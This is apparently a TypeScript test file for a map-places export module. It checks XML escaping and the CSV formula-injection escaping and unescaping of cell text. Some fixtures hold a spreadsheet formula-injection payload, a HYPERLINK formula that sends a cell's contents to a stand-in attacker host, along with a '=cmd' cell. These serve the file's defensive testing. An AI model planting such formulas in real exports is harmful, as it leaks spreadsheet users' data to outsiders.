import assert from 'node:assert/strict'
import { Readable } from 'node:stream'
import { test } from 'node:test'
import { DOMParser } from '@xmldom/xmldom'
import { parse } from 'csv-parse/sync'
import type { ExportedFeature } from '../export'
import { escapeFormula, escapeXml, unescapeFormula, writePlaces } from './write'

test('escapeXml: markup characters as entities, a carriage return kept, what XML cannot hold replaced', () => {
  assert.equal(escapeXml(`<a href="x">Tom & Jerry's</a>`), '&lt;a href=&quot;x&quot;&gt;Tom &amp; Jerry&apos;s&lt;/a&gt;')
  assert.equal(escapeXml('a\r\nb\tc'), 'a&#13;\nb\tc')
  assert.equal(escapeXml('bell\u0007 nul\u0000 \uFFFE'), 'bell\uFFFD nul\uFFFD \uFFFD')
  assert.equal(escapeXml('lone \uD800 pair 🗼'), 'lone \uFFFD pair 🗼')
  assert.equal(escapeXml(']]>'), ']]&gt;')
})

test('escapeXml: any text, escaped, parses back to itself (bar what XML cannot hold)', () => {
  const samples = [
    '<![CDATA[ x ]]>',
    '&amp; &#x41; &lt;',
    'quote " apostrophe \' both',
    'line\r\nbreaks\rand\n\nmore',
    ' spaces  at the ends ',
    'Ünïcødé 🗺️ 地図',
  ]
  for (const text of samples) {
    const doc = new DOMParser().parseFromString(`<t a="${escapeXml(text)}">${escapeXml(text)}</t>`, 'text/xml')
    assert.equal(doc.documentElement?.textContent, text)
    // Attribute values are normalised by every parser (a raw line feed or tab becomes a space): URLs are all they hold.
    assert.equal(doc.documentElement?.getAttribute('a'), text.replace(/[\n\t]/g, ' '))
  }
})

test('escapeFormula: a text a spreadsheet would run gets a quote in front; unescapeFormula gives every text back', () => {
  const pairs = [
    ['=HYPERLINK("http://attacker.example/?leak="&A2,"Open")', `'=HYPERLINK("http://attacker.example/?leak="&A2,"Open")`],
    ['+33 1 23 45 67 89', "'+33 1 23 45 67 89"],
    ['-5 Rue X', "'-5 Rue X"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\tindented', "'\tindented"],
    ['\rreturn', "'\rreturn"],
    ['  =1+1', "'  =1+1"],
    ['\uFF1D1+1', "'\uFF1D1+1"],
    // A quote already there before a formula gets one more, so that reading takes exactly one off.
    ["'=1", "''=1"],
    ["''-2", "'''-2"],
    // Anything else is written as it is.
    ["'quoted'", "'quoted'"],
    ["it's = fine", "it's = fine"],
    ['a =1', 'a =1'],
    ['', ''],
  ]
  for (const [text, cell] of pairs) {
    assert.equal(escapeFormula(text!), cell, JSON.stringify(text))
    assert.equal(unescapeFormula(cell!), text, JSON.stringify(cell))
  }
  // A cell escapeFormula cannot have written (a spreadsheet's own) is read as it is.
  assert.equal(unescapeFormula('=1'), '=1')
  assert.equal(unescapeFormula("'plain"), "'plain")
})

test('writePlaces csv: text cells that would start a formula are escaped, numbers never', async () => {
  const feature: ExportedFeature = {
    type: 'Feature',
    geometry: { type: 'Point', coordinates: [-70.6, -33.45] },
    properties: {
      id: 7,
      title: '=HYPERLINK("http://attacker.example/?leak="&A2,"Open")',
      content: '+1',
      excerpt: '=1+1',
      slug: 'santiago',
      type: 'post',
      status: 'publish',
      date: '2024-01-02T03:04:05.000Z',
      address: '@home',
      geo_public: true,
      categories: ['-Minus', 'Plain'],
      tags: ['=cmd', 'Food'],
    },
  }
  let csv = ''
  for await (const chunk of writePlaces('csv', Readable.from([feature]), { siteUrl: 'http://places.test', name: 'Places' })) csv += chunk
  const [, row] = parse(csv)
  assert.deepEqual(row, [
    '7',
    `'=HYPERLINK("http://attacker.example/?leak="&A2,"Open")`,
    '-33.45',
    '-70.6',
    "'@home",
    "'+1",
    "'=1+1",
    '2024-01-02T03:04:05.000Z',
    "'-Minus|Plain",
    "'=cmd, Food",
    'santiago',
    'post',
    'http://places.test/post/santiago',
  ])
})
